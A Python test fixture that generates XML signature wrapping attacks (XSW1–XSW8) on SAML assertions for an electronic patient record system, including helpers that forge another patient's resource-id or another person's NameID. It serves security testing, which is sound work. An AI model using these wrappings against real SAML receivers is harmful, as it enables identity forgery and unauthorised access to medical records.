"""XML signature wrapping, XSW1 to XSW8, on a SAML assertion in the wsse:Security header.

Each attack takes a genuine signed assertion A (its signature S refers to A by ID) and an evil copy E without
signature, that says something else, and arranges them so that a careless receiver verifies A and believes E.
Source: J. Somorovsky et al., On Breaking SAML (USENIX Security 2012), section 4; catalogue rows XUA-ITI40-080 to 087.
"""

import uuid
from collections.abc import Callable, Mapping
from types import MappingProxyType

from lxml import etree

from fixtures.epr.names import NS, qname
from fixtures.epr.xml import Element, find, parse, serialise

#: from (A with its signature, E without) to the content of wsse:Security
Wrapping = Callable[[Element, Element], list[Element]]


def wrapped(name: str, genuine: bytes, evil: Callable[[Element], None]) -> bytes:
    """The content of wsse:Security for attack ``name``; ``evil`` changes the copy (e.g. the resource-id)."""
    copy = evil_copy(genuine, evil)
    return b"".join(serialise(element) for element in WRAPPINGS[name](parse(genuine), copy))


def evil_copy(genuine: bytes, evil: Callable[[Element], None], *, same_id: bool = False) -> Element:
    """A copy without signature that went through ``evil``, with an ID of its own unless ``same_id``."""
    copy = _unsigned(parse(genuine))
    evil(copy)
    if not same_id:
        copy.set("ID", f"_{uuid.uuid4()}")
    return copy


def _signature(assertion: Element) -> Element:
    found = find(assertion, "ds:Signature")
    if found is None:
        raise LookupError("the assertion is not signed")
    return found


def _unsigned(assertion: Element) -> Element:
    signature = _signature(assertion)
    parent = signature.getparent()
    assert parent is not None
    parent.remove(signature)
    return assertion


def _take_signature(evil: Element, genuine: Element) -> Element:
    """Move S from A to its place in E (after Issuer)."""
    signature = _signature(genuine)
    genuine.remove(signature)
    evil.insert(1, signature)
    return signature


def _xsw1(genuine: Element, evil: Element) -> list[Element]:
    evil.set("ID", str(genuine.get("ID")))
    _take_signature(evil, genuine).append(genuine)
    return [evil]


def _xsw2(genuine: Element, evil: Element) -> list[Element]:
    _take_signature(evil, genuine).addprevious(genuine)
    return [evil]


def _xsw3(genuine: Element, evil: Element) -> list[Element]:
    return [evil, genuine]


def _xsw3_reversed(genuine: Element, evil: Element) -> list[Element]:
    return [genuine, evil]


def _xsw4(genuine: Element, evil: Element) -> list[Element]:
    evil.append(genuine)
    return [evil]


def _xsw5(genuine: Element, evil: Element) -> list[Element]:
    _take_signature(evil, genuine)
    return [evil, genuine]


def _xsw6(genuine: Element, evil: Element) -> list[Element]:
    _take_signature(evil, genuine).append(genuine)
    return [evil]


def _xsw7(genuine: Element, evil: Element) -> list[Element]:
    wrapper = etree.Element(qname("samlp:Extensions"), nsmap={"samlp": NS["samlp"]})
    wrapper.append(evil)
    return [wrapper, genuine]


def _xsw8(genuine: Element, evil: Element) -> list[Element]:
    signature = _take_signature(evil, genuine)
    etree.SubElement(signature, qname("ds:Object")).append(genuine)
    return [evil]


WRAPPINGS: Mapping[str, Wrapping] = MappingProxyType(
    {
        "XSW1": _xsw1,
        "XSW2": _xsw2,
        "XSW3": _xsw3,
        "XSW3-reversed": _xsw3_reversed,
        "XSW4": _xsw4,
        "XSW5": _xsw5,
        "XSW6": _xsw6,
        "XSW7": _xsw7,
        "XSW8": _xsw8,
    }
)


def with_resource_id(value: str) -> Callable[[Element], None]:
    """An evil copy that claims the record of another patient (CX of the EPR-SPID)."""
    return _with_text(f"saml2:AttributeStatement/saml2:Attribute[@Name='{RESOURCE_ID}']/saml2:AttributeValue", value)


def with_name_id(value: str) -> Callable[[Element], None]:
    """An evil copy that claims to be another person."""
    return _with_text("saml2:Subject/saml2:NameID", value)


RESOURCE_ID = "urn:oasis:names:tc:xacml:2.0:resource:resource-id"


def _with_text(xpath: str, value: str) -> Callable[[Element], None]:
    def change(assertion: Element) -> None:
        found = find(assertion, xpath)
        if found is None:
            raise LookupError(f"the assertion has no {xpath}")
        found.text = value

    return change
